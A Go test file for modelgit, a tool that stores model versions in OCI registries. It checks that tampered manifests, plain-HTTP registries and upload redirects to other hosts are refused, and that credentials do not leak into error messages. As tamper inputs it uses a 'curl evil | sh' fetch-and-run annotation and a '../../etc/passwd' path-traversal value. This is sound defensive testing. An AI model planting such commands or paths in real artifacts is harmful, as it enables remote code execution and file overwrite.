package store

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	ocispec "github.com/opencontainers/image-spec/specs-go/v1"

	"github.com/modelgit/modelgit/manifests"
)

// TestOCICheckVersion: the manifest under a version's tag is the one
// computed from the committed version; an artifact pushed over the tag by
// another tool is refused by CheckVersion and PushVersion, saying what it
// is.
func TestOCICheckVersion(t *testing.T) {
	reg := startRegistry(t, false)
	ctx := context.Background()
	o := newTestOCI(t, reg, "models/check", OCIOptions{})
	mv, raw, _ := testVersion(t, o, "1.0.0")

	if _, err := o.CheckVersion(ctx, mv, raw); !errors.Is(err, ErrNotFound) {
		t.Fatalf("CheckVersion before publishing: %v, want ErrNotFound", err)
	}
	pushed, err := o.PushVersion(ctx, mv, raw)
	if err != nil {
		t.Fatal(err)
	}
	// Computed locally, with tree listings from another store: the same
	// manifest, byte for byte.
	mem := NewMemory()
	blobs, err := VersionBlobs(ctx, o, mv)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := CopyBlobs(ctx, mem, o, blobs, 0, nil); err != nil {
		t.Fatal(err)
	}
	local, _, err := BuildVersionManifest(ctx, mem, mv, raw)
	if err != nil || local.Digest != pushed.Digest {
		t.Fatalf("BuildVersionManifest = %s, %v; want the pushed %s", local.Digest, err, pushed.Digest)
	}
	got, err := o.CheckVersion(ctx, mv, raw)
	if err != nil || got.Digest != pushed.Digest {
		t.Fatalf("CheckVersion = %s, %v; want %s", got.Digest, err, pushed.Digest)
	}
	if _, existed, err := o.PublishVersion(ctx, mv, raw); err != nil || !existed {
		t.Fatalf("PublishVersion again: existed = %t, %v; want true", existed, err)
	}

	// Another version's YAML under this tag: modelgit's, but not this one.
	mv2 := *mv
	mv2.Reason = "another"
	raw2, _ := manifests.Marshal(&mv2)
	if _, err := o.CheckVersion(ctx, &mv2, raw2); !errors.Is(err, ErrTagMismatch) || !strings.Contains(err.Error(), "not this version") {
		t.Fatalf("CheckVersion of another YAML: %v, want ErrTagMismatch saying not this version", err)
	}

	// A manifest of this very version (same annotations, same set of
	// layer digests and sizes) that is not byte for byte the computed one
	// is refused too: swapped titles would make `oras pull` of the pinned
	// digest write the schema under the weights file's name.
	tag, _ := TagFor(mv.Model, mv.Version)
	dir := t.TempDir()
	orig, err := o.fetchManifest(ctx, tag)
	if err != nil {
		t.Fatal(err)
	}
	origJSON := orig.raw
	pushManifest := func(t *testing.T, b []byte) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, "manifest.json"), b, 0o644); err != nil {
			t.Fatal(err)
		}
		runOras(t, dir, "manifest", "push", "--plain-http", o.Reference(tag), "manifest.json")
	}
	const weightsFile, schemaFile = "weights/model-00001.safetensors", "schema.json"
	layer := func(m *ocispec.Manifest, title string) *ocispec.Descriptor {
		for i, l := range m.Layers {
			if l.Annotations[ocispec.AnnotationTitle] == title {
				return &m.Layers[i]
			}
		}
		t.Fatalf("no layer titled %q in %s", title, origJSON)
		return nil
	}
	for _, tc := range []struct {
		name string
		edit func(m *ocispec.Manifest)
		want string
	}{
		{"swapped titles and file paths", func(m *ocispec.Manifest) {
			w, s := layer(m, weightsFile), layer(m, schemaFile)
			for _, k := range []string{ocispec.AnnotationTitle, AnnotationFilepath} {
				w.Annotations[k], s.Annotations[k] = s.Annotations[k], w.Annotations[k]
			}
		}, `(weights file "weights/model-00001.safetensors"): annotation org.cncf.model.filepath "schema.json", want "weights/model-00001.safetensors"`},
		{"file path only", func(m *ocispec.Manifest) {
			layer(m, schemaFile).Annotations[AnnotationFilepath] = "../../etc/passwd"
		}, `(schema "schema.json"): annotation org.cncf.model.filepath "../../etc/passwd", want "schema.json"`},
		{"layer media type", func(m *ocispec.Manifest) {
			layer(m, schemaFile).MediaType = MediaTypeModelWeight
		}, `(schema "schema.json"): media type "` + MediaTypeModelWeight + `", want "application/vnd.modelgit.feature-schema.v1+json"`},
		{"layers reordered", func(m *ocispec.Manifest) {
			m.Layers[0], m.Layers[1] = m.Layers[1], m.Layers[0]
		}, `layer 1 (weights file "weights/config.json"): digest`},
		{"extra layer annotation", func(m *ocispec.Manifest) {
			layer(m, schemaFile).Annotations["io.example.run"] = "curl evil | sh"
		}, `(schema "schema.json"): annotation io.example.run "curl evil | sh", want none`},
		{"config media type", func(m *ocispec.Manifest) {
			m.Config.MediaType = "application/vnd.oci.image.config.v1+json"
		}, `config: media type "application/vnd.oci.image.config.v1+json", want "` + MediaTypeModelConfig + `"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var m ocispec.Manifest
			if err := json.Unmarshal(origJSON, &m); err != nil {
				t.Fatal(err)
			}
			tc.edit(&m)
			b, err := json.Marshal(m)
			if err != nil {
				t.Fatal(err)
			}
			pushManifest(t, b)
			t.Cleanup(func() { pushManifest(t, origJSON) })
			_, err = o.CheckVersion(ctx, mv, raw)
			if !errors.Is(err, ErrTagMismatch) || !strings.Contains(err.Error(), "a manifest of fraud@1.0.0 that is not the one computed from the committed version ("+string(pushed.Digest)+")") || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("CheckVersion of the edited manifest: %v\nwant ErrTagMismatch naming the computed manifest and saying %s", err, tc.want)
			}
			if _, err := o.PushVersion(ctx, mv, raw); !errors.Is(err, ErrTagMismatch) || !strings.Contains(err.Error(), "versions are immutable") {
				t.Fatalf("PushVersion over the edited manifest: %v, want ErrTagMismatch, not overwriting it", err)
			}
		})
	}
	if got, err := o.CheckVersion(ctx, mv, raw); err != nil || got.Digest != pushed.Digest {
		t.Fatalf("CheckVersion after restoring the manifest = %s, %v; want %s", got.Digest, err, pushed.Digest)
	}

	// oras pushes something else over the tag.
	if err := os.WriteFile(filepath.Join(dir, "evil.bin"), []byte("not the model"), 0o644); err != nil {
		t.Fatal(err)
	}
	runOras(t, dir, "push", "--plain-http", o.Reference(tag), "evil.bin")
	_, err = o.CheckVersion(ctx, mv, raw)
	if !errors.Is(err, ErrTagMismatch) || !strings.Contains(err.Error(), `tag "fraud-1.0.0" in `+o.URL()+" holds sha256:") || !strings.Contains(err.Error(), "not a modelgit model version") {
		t.Fatalf("CheckVersion over an oras artifact: %v, want ErrTagMismatch saying the tag holds something that is not a modelgit model version", err)
	}
	_, err = o.PushVersion(ctx, mv, raw)
	if err == nil || !strings.Contains(err.Error(), "not a modelgit model version") || !strings.Contains(err.Error(), "oras manifest delete "+o.Reference(tag)) || strings.Contains(err.Error(), `digest ""`) {
		t.Fatalf("PushVersion over an oras artifact: %v, want it to say the tag holds no modelgit version and how to delete it", err)
	}
}

// TestCopyBlobsParallel: with parallel 4, uploads overlap. Each PUT or
// PATCH waits (up to 10 s) until another is in flight, so a serial copy
// fails here rather than racing.
func TestCopyBlobsParallel(t *testing.T) {
	reg := startRegistry(t, false)
	ctx := context.Background()
	ct := &concurrencyTransport{base: http.DefaultTransport, want: 2, reached: make(chan struct{})}
	o := newTestOCI(t, reg, "models/parallel", OCIOptions{Transport: ct})
	mem := NewMemory()
	var blobs []Blob
	for range 8 {
		b := randomBytes(t, 256<<10)
		d := manifests.FromBytes(b)
		if err := mem.Put(ctx, d, int64(len(b)), bytes.NewReader(b)); err != nil {
			t.Fatal(err)
		}
		blobs = append(blobs, Blob{d, int64(len(b))})
	}
	st, err := CopyBlobs(ctx, o, mem, blobs, 4, nil)
	if err != nil || st.Copied != 8 {
		t.Fatalf("CopyBlobs = %+v, %v; want 8 copied", st, err)
	}
	if max := ct.maxInFlight(); max < 2 {
		t.Fatalf("at most %d upload request in flight with parallel=4, want more than 1", max)
	}
}

// concurrencyTransport counts PUT and PATCH requests in flight; each waits
// until want of them were in flight at once (or 10 s).
type concurrencyTransport struct {
	base     http.RoundTripper
	want     int
	mu       sync.Mutex
	inFlight int
	max      int
	reached  chan struct{}
}

func (c *concurrencyTransport) RoundTrip(req *http.Request) (*http.Response, error) {
	if req.Method != http.MethodPut && req.Method != http.MethodPatch {
		return c.base.RoundTrip(req)
	}
	c.mu.Lock()
	c.inFlight++
	if c.inFlight > c.max {
		c.max = c.inFlight
		if c.max == c.want {
			close(c.reached)
		}
	}
	c.mu.Unlock()
	select {
	case <-c.reached:
	case <-time.After(10 * time.Second):
	}
	resp, err := c.base.RoundTrip(req)
	c.mu.Lock()
	c.inFlight--
	c.mu.Unlock()
	return resp, err
}

func (c *concurrencyTransport) maxInFlight() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.max
}

// dialTo returns a transport that connects every host name to addr, so a
// registry on 127.0.0.1 is reached as a non-loopback name.
func dialTo(addr string) *http.Transport {
	tr := http.DefaultTransport.(*http.Transport).Clone()
	tr.DialContext = func(ctx context.Context, network, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, network, addr)
	}
	return tr
}

// TestOCIPlainHTTP: a registry speaking plain HTTP under a name that is
// not loopback is refused until allowed, with a message naming the CLI's
// switches; an upload location on another host is refused.
func TestOCIPlainHTTP(t *testing.T) {
	ctx := context.Background()
	data := []byte("weights over plain HTTP")
	d := manifests.FromBytes(data)

	t.Run("not loopback", func(t *testing.T) {
		reg := startRegistry(t, false)
		ref := "oci://registry.modelgit.test:5000/models/plain"
		o, err := NewOCI(ref, OCIOptions{Transport: dialTo(reg.addr), Retries: -1})
		if err != nil {
			t.Fatal(err)
		}
		_, err = o.Stat(ctx, d)
		if err == nil || !strings.Contains(err.Error(), "registry.modelgit.test:5000 speaks plain HTTP, not HTTPS") ||
			!strings.Contains(err.Error(), "--plain-http") || !strings.Contains(err.Error(), EnvRegistryPlainHTTP+"=true") {
			t.Fatalf("Stat over HTTPS of a plain HTTP registry: %v, want the plain HTTP error naming --plain-http and %s", err, EnvRegistryPlainHTTP)
		}
		o, err = NewOCI(ref, OCIOptions{Transport: dialTo(reg.addr), PlainHTTP: true})
		if err != nil {
			t.Fatal(err)
		}
		if err := o.Put(ctx, d, int64(len(data)), bytes.NewReader(data)); err != nil {
			t.Fatalf("Put with PlainHTTP: %v", err)
		}
		if got, err := readBlob(t, o, d); err != nil || !bytes.Equal(got, data) {
			t.Fatalf("Open with PlainHTTP: %q, %v", got, err)
		}
	})

	t.Run("upload location on another host", func(t *testing.T) {
		var patched bool
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			switch {
			case r.Method == http.MethodHead:
				w.WriteHeader(http.StatusNotFound)
			case r.Method == http.MethodPost:
				w.Header().Set("Location", "http://elsewhere.example:8080/v2/models/x/blobs/uploads/abc?_state=secret")
				w.WriteHeader(http.StatusAccepted)
			case r.Method == http.MethodDelete:
				w.WriteHeader(http.StatusNoContent)
			default:
				patched = true
				w.WriteHeader(http.StatusInternalServerError)
			}
		}))
		defer srv.Close()
		o, err := NewOCI("oci://"+strings.TrimPrefix(srv.URL, "http://")+"/models/x", OCIOptions{Username: "u", Password: "p"})
		if err != nil {
			t.Fatal(err)
		}
		err = o.Put(ctx, d, int64(len(data)), bytes.NewReader(data))
		if err == nil || !strings.Contains(err.Error(), `upload location on another host "elsewhere.example:8080": refused`) || strings.Contains(err.Error(), "secret") {
			t.Fatalf("Put: %v, want the other host refused without the location's query", err)
		}
		if patched {
			t.Fatalf("the blob was sent after a location on another host")
		}
	})
}

// TestOCIErrorMessages: a digest is named once in an error, however many
// layers wrap it.
func TestOCIErrorMessages(t *testing.T) {
	reg := startRegistry(t, true)
	ctx := context.Background()
	t.Setenv("DOCKER_CONFIG", t.TempDir())
	o := newTestOCI(t, reg, "models/msg", OCIOptions{})
	mem := NewMemory()
	data := []byte("one blob")
	d := manifests.FromBytes(data)
	if err := mem.Put(ctx, d, int64(len(data)), bytes.NewReader(data)); err != nil {
		t.Fatal(err)
	}
	_, err := CopyBlobs(ctx, o, mem, []Blob{{d, int64(len(data))}}, 1, nil)
	if !errors.Is(err, ErrAuthRequired) {
		t.Fatalf("CopyBlobs without credentials: %v, want ErrAuthRequired", err)
	}
	if n := strings.Count(err.Error(), d.Hex()); n != 1 {
		t.Fatalf("the digest appears %d times in %q, want once", n, err)
	}
	for _, want := range []string{"oras login " + reg.addr, "--registry-config"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("%q does not say %q", err, want)
		}
	}
}

// TestOCICredentialSources covers what TestOCIAuth does not: an identity
// token against HTTP Basic, the default Docker config, and an explicit
// registry config winning over the environment.
func TestOCICredentialSources(t *testing.T) {
	reg := startRegistry(t, true)
	ctx := context.Background()
	data := []byte("weights behind basic auth, again")
	d := manifests.FromBytes(data)
	t.Setenv("DOCKER_CONFIG", t.TempDir())
	t.Setenv(EnvRegistryUsername, "")
	t.Setenv(EnvRegistryPassword, "")

	t.Run("password only", func(t *testing.T) {
		o := newTestOCI(t, reg, "models/auth", OCIOptions{Password: "an-identity-token-77"})
		_, err := o.Stat(ctx, d)
		if !errors.Is(err, ErrAuthRequired) || !strings.Contains(err.Error(), "HTTP Basic") || !strings.Contains(err.Error(), EnvRegistryUsername) {
			t.Fatalf("Stat: %v, want ErrAuthRequired asking for a username", err)
		}
		for _, leak := range []string{"an-identity-token-77", "http://", "HEAD "} {
			if strings.Contains(err.Error(), leak) {
				t.Errorf("%q leaks %q", err, leak)
			}
		}
	})
	loginTo := func(t *testing.T, cfg string) {
		runOras(t, t.TempDir(), "login", "--plain-http", "--registry-config", cfg, "-u", testRegistryUser, "-p", testRegistryPassword, reg.addr)
	}
	t.Run("DOCKER_CONFIG", func(t *testing.T) {
		dir := t.TempDir()
		loginTo(t, filepath.Join(dir, "config.json"))
		t.Setenv("DOCKER_CONFIG", dir)
		o := newTestOCI(t, reg, "models/auth", OCIOptions{})
		if err := o.Put(ctx, d, int64(len(data)), bytes.NewReader(data)); err != nil {
			t.Fatalf("Put with credentials from $DOCKER_CONFIG: %v", err)
		}
	})
	t.Run("registry config wins over the environment", func(t *testing.T) {
		cfg := filepath.Join(t.TempDir(), "config.json")
		loginTo(t, cfg)
		t.Setenv(EnvRegistryUsername, testRegistryUser)
		t.Setenv(EnvRegistryPassword, "a-wrong-password")
		opts := OCIOptionsFromEnv()
		opts.RegistryConfig = cfg // as --registry-config sets it
		o := newTestOCI(t, reg, "models/auth", opts)
		if n, err := o.Stat(ctx, d); err != nil || n != int64(len(data)) {
			t.Fatalf("Stat = %d, %v; want the registry config's credentials used", n, err)
		}
	})
	t.Run("environment for hosts the registry config lacks", func(t *testing.T) {
		cfg := filepath.Join(t.TempDir(), "config.json")
		if err := os.WriteFile(cfg, []byte(`{"auths":{"other.example":{"auth":"eDp5"}}}`), 0o600); err != nil {
			t.Fatal(err)
		}
		o := newTestOCI(t, reg, "models/auth", OCIOptions{RegistryConfig: cfg, Username: testRegistryUser, Password: testRegistryPassword})
		if _, err := o.Stat(ctx, d); err != nil {
			t.Fatalf("Stat: %v", err)
		}
	})
}
